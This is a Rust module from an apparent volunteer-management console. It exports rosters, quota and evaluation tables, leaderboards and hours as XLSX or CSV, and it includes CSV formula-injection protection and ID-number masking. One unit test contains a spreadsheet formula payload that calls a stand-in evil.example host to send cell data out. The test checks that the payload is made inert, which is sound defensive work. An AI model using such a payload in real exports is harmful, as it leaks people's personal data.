//! Exports of exactly what a page's filter shows, as XLSX or CSV (UTF-8
//! with a byte-order mark, so Excel opens Chinese correctly): the roster
//! (花名册) with the columns of notice 004, the quota table (名额分配表)
//! filled against allotted, the evaluation table of a unit's children for a
//! period, the volunteers' leaderboard, and one volunteer's hours with who
//! verified them and when.

use axum::extract::{Path, Query, State};
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::Router;
use ledger_core::domain::{CreditStatus, Group, Membership};
use ledger_core::values::VolunteerId;
use rust_xlsxwriter::{Format, Workbook};

use super::filter::FilterForm;
use super::units::Featured;
use super::volunteers::{
    credit_status_label, readable_volunteer, roster, roster_hours_label, roster_minutes,
    status_label, UnitNames,
};
use super::{live, urlencode, Lang, Session};
use crate::http::{Api, Refusal};
use crate::personal::PersonalRecord;
use crate::queries::{bad, failed, not_found};

/// The most rows one export holds: beyond it, narrow the filter.
pub const MAX_ROWS: usize = 200_000;

pub fn routes() -> Router<Api> {
    Router::new()
        .route("/console/exports/{file}", get(table))
        .route("/console/exports/hours/{file}", get(volunteer_hours))
}

#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_owned())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}

impl From<u64> for Cell {
    fn from(n: u64) -> Cell {
        Cell::Number(n as f64)
    }
}

/// Hours from minutes, to one decimal.
fn hours(minutes: u64) -> Cell {
    Cell::Number((minutes as f64 / 6.0).round() / 10.0)
}

pub struct Table {
    /// The file's name, without extension.
    pub name: String,
    pub headers: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum ExportFormat {
    Xlsx,
    Csv,
}

fn split(file: &str) -> Result<(&str, ExportFormat), Refusal> {
    let (stem, ext) = file
        .rsplit_once('.')
        .ok_or_else(|| not_found("UNKNOWN_EXPORT"))?;
    let format = match ext {
        "xlsx" => ExportFormat::Xlsx,
        "csv" => ExportFormat::Csv,
        _ => return Err(not_found("UNKNOWN_EXPORT")),
    };
    Ok((stem, format))
}

async fn table(
    s: Session,
    State(api): State<Api>,
    Path(file): Path<String>,
    Query(f): Query<FilterForm>,
) -> Response {
    let made = async {
        let (stem, format) = split(&file)?;
        let table = match stem {
            "roster" => roster_table(&api, &s, &f).await?,
            "quota" => quota_table(&api, &s, &f)?,
            "evaluation" => evaluation_table(&api, &s, &f)?,
            "leaderboard" => leaderboard_table(&api, &s, &f).await?,
            _ => return Err(not_found("UNKNOWN_EXPORT")),
        };
        deliver(&table, format)
    }
    .await;
    made.unwrap_or_else(|refusal| super::layout::error_page(s.lang, &refusal))
}

async fn volunteer_hours(s: Session, State(api): State<Api>, Path(file): Path<String>) -> Response {
    let made = (|| {
        let (stem, format) = split(&file)?;
        let id = VolunteerId::new(stem).map_err(|_| not_found("UNKNOWN_VOLUNTEER"))?;
        let table = hours_table(&api, &s, &id)?;
        deliver(&table, format)
    })();
    made.unwrap_or_else(|refusal| super::layout::error_page(s.lang, &refusal))
}

fn deliver(table: &Table, format: ExportFormat) -> Result<Response, Refusal> {
    let (bytes, ext, mime) = match format {
        ExportFormat::Csv => (csv(table), "csv", "text/csv; charset=utf-8"),
        ExportFormat::Xlsx => (
            xlsx(table).map_err(failed)?,
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    };
    let filename = format!("{}.{ext}", table.name);
    let disposition = format!(
        "attachment; filename=\"export.{ext}\"; filename*=UTF-8''{}",
        urlencode(&filename)
    );
    Ok((
        StatusCode::OK,
        [
            (header::CONTENT_TYPE, mime.to_owned()),
            (header::CONTENT_DISPOSITION, disposition),
        ],
        bytes,
    )
        .into_response())
}

/// RFC 4180, after a UTF-8 byte-order mark.
pub fn csv(table: &Table) -> Vec<u8> {
    let mut out = String::from("\u{FEFF}");
    let field = |s: &str| {
        let s = inert(s);
        if s.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", s.replace('"', "\"\""))
        } else {
            s.into_owned()
        }
    };
    let line = |cells: Vec<String>| cells.join(",") + "\r\n";
    out.push_str(&line(table.headers.iter().map(|h| field(h)).collect()));
    for row in &table.rows {
        out.push_str(&line(
            row.iter()
                .map(|c| match c {
                    Cell::Text(t) => field(t),
                    Cell::Number(n) => n.to_string(),
                })
                .collect(),
        ));
    }
    out.into_bytes()
}

/// Text a spreadsheet will not take for a formula. Names, reasons and unit
/// names are typed by admins of every unit; a cell beginning `=`, `+`,
/// `-`, `@`, a tab or a carriage return would be run by Excel or WPS when
/// the city's admin opens the file (a `HYPERLINK` can send the sheet's ID
/// numbers away), so such a cell starts with an apostrophe, which the
/// spreadsheet shows as text and does not display.
fn inert(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

pub fn xlsx(table: &Table) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    let bold = Format::new().set_bold();
    for (col, h) in table.headers.iter().enumerate() {
        let col = col as u16;
        sheet.write_string_with_format(0, col, *h, &bold)?;
        sheet.set_column_width(col, (h.chars().count() as f64 * 2.2).max(10.0))?;
    }
    for (i, row) in table.rows.iter().enumerate() {
        let r = i as u32 + 1;
        for (col, cell) in row.iter().enumerate() {
            match cell {
                Cell::Text(t) => sheet.write_string(r, col as u16, t)?,
                Cell::Number(n) => sheet.write_number(r, col as u16, *n)?,
            };
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    book.save_to_buffer()
}

fn group_label(lang: Lang, g: Group) -> &'static str {
    match g {
        Group::ModelWorker => lang.t("劳模", "Model worker"),
        Group::MoralModel => lang.t("道德模范", "Moral model"),
        Group::MostBeautiful => lang.t("最美人物", "Most beautiful"),
        Group::UnionCadre => lang.t("工会干部", "Union cadre"),
        Group::MayDayMedal => lang.t("五一劳动奖章获得者", "May Day medal"),
        Group::MasterCraftsman => lang.t("工匠", "Master craftsman"),
        Group::Retiree => lang.t("退休职工", "Retiree"),
        Group::UniversityStudent => lang.t("大学生", "University student"),
    }
}

/// Only the last four digits of an ID number, for roles that may not see it.
pub fn mask_citizen_id(id: &str) -> String {
    let chars: Vec<char> = id.chars().collect();
    let keep = chars.len().min(4);
    let hidden = chars.len() - keep;
    "*".repeat(hidden) + &chars[hidden..].iter().collect::<String>()
}

async fn roster_table(api: &Api, s: &Session, f: &FilterForm) -> Result<Table, Refusal> {
    let filter = f.read()?;
    let (scope, rows) = live(api, |r, _| {
        let scope = super::filter::scope(r, s, filter.scope.as_ref())?;
        let rows = roster(r, s, f, MAX_ROWS + 1)?;
        let mut names = UnitNames::default();
        let rows = rows
            .into_iter()
            .map(|row| Ok((names.of(r, &row.home_unit)?, row)))
            .collect::<Result<Vec<_>, Refusal>>()?;
        Ok((scope, rows))
    })?;
    if rows.len() > MAX_ROWS {
        return Err(bad(format!("more than {MAX_ROWS} rows: narrow the scope")));
    }
    let lang = s.lang;
    let mut out = Vec::with_capacity(rows.len());
    for (i, (unit, v)) in rows.iter().enumerate() {
        let personal: Option<PersonalRecord> = api.personal.get(&v.volunteer).await.ok().flatten();
        let p = personal.as_ref();
        let name = if s.sees_personal() {
            p.map(|p| p.name.clone())
        } else {
            None
        };
        let citizen_id = p.map(|p| {
            if s.sees_personal() {
                p.citizen_id.clone()
            } else {
                mask_citizen_id(&p.citizen_id)
            }
        });
        let mut identity = vec![match v.membership {
            Membership::Member => lang.t("工会会员", "Member"),
            Membership::InvitedNonMember => lang.t("特邀会员", "Invited non-member"),
        }];
        identity.extend(v.groups.iter().map(|g| group_label(lang, *g)));
        let shown = |x: Option<String>| x.unwrap_or_default();
        out.push(vec![
            Cell::from(i as u64 + 1),
            Cell::from(v.number.clone()),
            Cell::from(shown(name)),
            Cell::from(shown(
                p.filter(|_| s.sees_personal()).and_then(|p| p.sex.clone()),
            )),
            Cell::from(shown(citizen_id)),
            Cell::from(shown(
                p.filter(|_| s.sees_personal())
                    .and_then(|p| p.employer.clone()),
            )),
            Cell::from(shown(
                p.filter(|_| s.sees_personal())
                    .and_then(|p| p.political_status.clone()),
            )),
            Cell::from(identity.join("、")),
            Cell::from(
                v.specialties
                    .iter()
                    .map(|t| t.as_str())
                    .collect::<Vec<_>>()
                    .join("、"),
            ),
            Cell::from(unit.clone()),
            Cell::from(status_label(lang, v.status.into())),
            hours(roster_minutes(v, &filter)),
            Cell::from(v.home_unit.to_string()),
        ]);
    }
    Ok(Table {
        name: format!(
            "{}-{scope}-{}",
            lang.t("志愿者花名册", "roster"),
            filter.period
        ),
        headers: vec![
            lang.t("序号", "No."),
            lang.t("编号", "Number"),
            lang.t("姓名", "Name"),
            lang.t("性别", "Sex"),
            lang.t("身份证号码", "ID number"),
            lang.t("工作单位", "Employer"),
            lang.t("政治面貌", "Political status"),
            lang.t("身份", "Status"),
            lang.t("特长", "Specialties"),
            lang.t("所属单位", "Home unit"),
            lang.t("审批状态", "Approval"),
            roster_hours_label(lang, &filter),
            lang.t("单位编号", "Unit id"),
        ],
        rows: out,
    })
}

fn quota_table(api: &Api, s: &Session, f: &FilterForm) -> Result<Table, Refusal> {
    let filter = f.read()?;
    let (scope, kids) = live(api, |r, _| {
        let (view, kids) = super::units::children(r, s, &filter, 0, usize::MAX)?;
        Ok((view.unit, kids))
    })?;
    let lang = s.lang;
    let rows = kids
        .iter()
        .enumerate()
        .map(|(i, k)| {
            let rate = k.quota.filter(|q| *q > 0).map_or_else(
                || Cell::from(""),
                |q| {
                    Cell::Number(
                        (k.registered_volunteers as f64 * 1000.0 / f64::from(q)).round() / 10.0,
                    )
                },
            );
            vec![
                Cell::from(i as u64 + 1),
                Cell::from(k.name.clone()),
                k.quota
                    .map_or_else(|| Cell::from(""), |q| Cell::from(u64::from(q))),
                Cell::from(k.registered_volunteers),
                rate,
                Cell::from(""),
            ]
        })
        .collect();
    Ok(Table {
        name: format!("{}-{scope}", lang.t("名额分配表", "quota")),
        headers: vec![
            lang.t("序号", "No."),
            lang.t("区市县、产业工会", "Union"),
            lang.t("人数（名额）", "Allotted"),
            lang.t("已登记", "Registered"),
            lang.t("完成率（%）", "Filled (%)"),
            lang.t("备注", "Notes"),
        ],
        rows,
    })
}

fn evaluation_table(api: &Api, s: &Session, f: &FilterForm) -> Result<Table, Refusal> {
    let filter = f.read()?;
    let (scope, places) = live(api, |r, _| {
        let (view, ranked) = super::boards::ranked_children(r, s, &filter)?;
        let year = super::dashboard::year_shown(r, &filter.period);
        let ranked = ranked
            .into_iter()
            .map(|(rank, v)| Ok((rank, Featured::read(r, &v.unit, year)?, v)))
            .collect::<Result<Vec<_>, Refusal>>()?;
        Ok((view.unit, ranked))
    })?;
    let lang = s.lang;
    let rows = places
        .iter()
        .map(|(rank, featured, v)| {
            vec![
                Cell::from(*rank),
                Cell::from(v.name.clone()),
                hours(v.confirmed_system_minutes + v.confirmed_backfill_minutes),
                hours(v.confirmed_system_minutes),
                hours(v.confirmed_backfill_minutes),
                Cell::from(v.points),
                Cell::from(v.active_volunteers),
                Cell::from(v.registered_volunteers),
                v.quota
                    .map_or_else(|| Cell::from(""), |q| Cell::from(u64::from(q))),
                Cell::Number(v.hours_per_registered),
                Cell::from(v.activities_held),
                Cell::from(v.featured_held),
                Cell::Number(f64::from(featured.year)),
                Cell::from(featured.held),
                Cell::from(featured.required),
                Cell::from(if featured.below() {
                    lang.t("否", "No")
                } else {
                    lang.t("是", "Yes")
                }),
                Cell::from(v.unit.to_string()),
            ]
        })
        .collect();
    Ok(Table {
        name: format!(
            "{}-{scope}-{}",
            lang.t("考核表", "evaluation"),
            filter.period
        ),
        headers: vec![
            lang.t("名次", "Rank"),
            lang.t("单位", "Unit"),
            lang.t("服务时长（小时）", "Hours"),
            lang.t("系统记录时长", "System hours"),
            lang.t("补录时长", "Backfilled hours"),
            lang.t("积分", "Points"),
            lang.t("活跃志愿者", "Active volunteers"),
            lang.t("登记志愿者", "Registered"),
            lang.t("名额", "Quota"),
            lang.t("人均时长", "Hours per registered"),
            lang.t("开展活动", "Activities held"),
            lang.t("特色活动", "Featured held"),
            lang.t("考核年度", "Year assessed"),
            lang.t("年度特色活动", "Featured held in the year"),
            lang.t("特色活动要求（每年）", "Featured required a year"),
            lang.t("特色活动达标", "Featured requirement met"),
            lang.t("单位编号", "Unit id"),
        ],
        rows,
    })
}

async fn leaderboard_table(api: &Api, s: &Session, f: &FilterForm) -> Result<Table, Refusal> {
    let filter = f.read()?;
    let (scope, places) = super::boards::volunteer_places(api, s, &filter, 0, MAX_ROWS + 1).await?;
    if places.len() > MAX_ROWS {
        return Err(bad(format!("more than {MAX_ROWS} rows: narrow the filter")));
    }
    let lang = s.lang;
    let rows = places
        .into_iter()
        .map(|p| {
            let mut row = vec![Cell::from(p.place.rank), Cell::from(p.number)];
            if s.sees_personal() {
                row.push(Cell::from(p.name.unwrap_or_default()));
            }
            row.push(Cell::from(p.home_unit_name));
            row.push(match filter.metric {
                projections::Metric::Hours => hours(p.place.score),
                projections::Metric::Points => Cell::from(p.place.score),
            });
            row.push(Cell::from(p.home_unit.to_string()));
            row
        })
        .collect();
    let mut headers = vec![lang.t("名次", "Rank"), lang.t("编号", "Number")];
    if s.sees_personal() {
        headers.push(lang.t("姓名", "Name"));
    }
    headers.push(lang.t("所属单位", "Home unit"));
    headers.push(match filter.metric {
        projections::Metric::Hours => lang.t("服务时长（小时）", "Hours"),
        projections::Metric::Points => lang.t("积分", "Points"),
    });
    headers.push(lang.t("单位编号", "Unit id"));
    Ok(Table {
        name: format!(
            "{}-{scope}-{}",
            lang.t("排行榜", "leaderboard"),
            filter.period
        ),
        headers,
        rows,
    })
}

fn hours_table(api: &Api, s: &Session, id: &VolunteerId) -> Result<Table, Refusal> {
    let (view, credits, offset) = live(api, |r, _| {
        let view = readable_volunteer(r, s, id)?;
        let credits = projections::query::credits(r, id, 0, MAX_ROWS).map_err(failed)?;
        Ok((view, credits, super::ledger_offset(r)?))
    })?;
    let lang = s.lang;
    let rows = credits
        .iter()
        .map(|(credit, c)| {
            let verified = c.status == CreditStatus::Confirmed;
            vec![
                Cell::from(credit.0),
                Cell::from(c.activity.to_string()),
                Cell::from(lang.category(c.category)),
                Cell::from(c.day.to_string()),
                hours(u64::from(c.minutes)),
                Cell::from(if c.system {
                    lang.t("签到记录", "Attendance")
                } else {
                    lang.t("补录", "Backfill")
                }),
                Cell::from(credit_status_label(lang, c.status)),
                Cell::from(if verified {
                    lang.t("是", "yes")
                } else {
                    lang.t("否", "no")
                }),
                Cell::from(
                    c.confirmed
                        .as_ref()
                        .map_or_else(String::new, |st| super::layout::local_time(st.at, offset)),
                ),
                Cell::from(
                    c.confirmed
                        .as_ref()
                        .map_or_else(String::new, |st| st.by.to_string()),
                ),
                Cell::from(c.credited.sequence),
            ]
        })
        .collect();
    Ok(Table {
        name: format!("{}-{}", lang.t("服务时长明细", "hours"), view.number),
        headers: vec![
            lang.t("记录编号", "Credit"),
            lang.t("活动", "Activity"),
            lang.t("类别", "Category"),
            lang.t("日期", "Day"),
            lang.t("时长（小时）", "Hours"),
            lang.t("来源", "Source"),
            lang.t("状态", "Status"),
            lang.t("已验证", "Verified"),
            lang.t("验证时间", "Verified at"),
            lang.t("验证人", "Verified by"),
            lang.t("台账序号", "Sequence"),
        ],
        rows,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Table {
        Table {
            name: "花名册".into(),
            headers: vec!["序号", "姓名", "备注"],
            rows: vec![
                vec![Cell::from(1u64), Cell::from("张三"), Cell::from("有,逗号")],
                vec![Cell::from(2u64), Cell::from("李\"四\""), hours(90)],
            ],
        }
    }

    #[test]
    fn csv_has_a_bom_and_quotes_what_needs_it() {
        let text = String::from_utf8(csv(&sample())).unwrap();
        assert!(text.starts_with('\u{FEFF}'));
        let lines: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").collect();
        assert_eq!(lines[0], "序号,姓名,备注");
        assert_eq!(lines[1], "1,张三,\"有,逗号\"");
        assert_eq!(lines[2], "2,\"李\"\"四\"\"\",1.5");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
        let table = Table {
            name: "roster".into(),
            headers: vec!["姓名", "单位"],
            rows: vec![
                vec![
                    Cell::Text("=HYPERLINK(\"http://evil.example/?\"&C2,\"x\")".into()),
                    Cell::Text("+1".into()),
                ],
                vec![Cell::Text("@SUM(A1)".into()), Cell::Text("张三".into())],
                vec![Cell::Text("-2+3".into()), Cell::Number(-1.5)],
            ],
        };
        let text = String::from_utf8(csv(&table)).unwrap();
        let lines: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").collect();
        assert_eq!(
            lines[1],
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"x\"\")\",'+1"
        );
        assert_eq!(lines[2], "'@SUM(A1),张三");
        assert_eq!(lines[3], "'-2+3,-1.5", "numbers stay numbers");
    }

    #[test]
    fn xlsx_is_a_zip_workbook() {
        let bytes = xlsx(&sample()).unwrap();
        assert_eq!(&bytes[..2], b"PK");
    }

    #[test]
    fn id_numbers_are_masked_to_the_last_four() {
        assert_eq!(mask_citizen_id("210202199001011232"), "**************1232");
        assert_eq!(mask_citizen_id("12"), "12");
    }
}
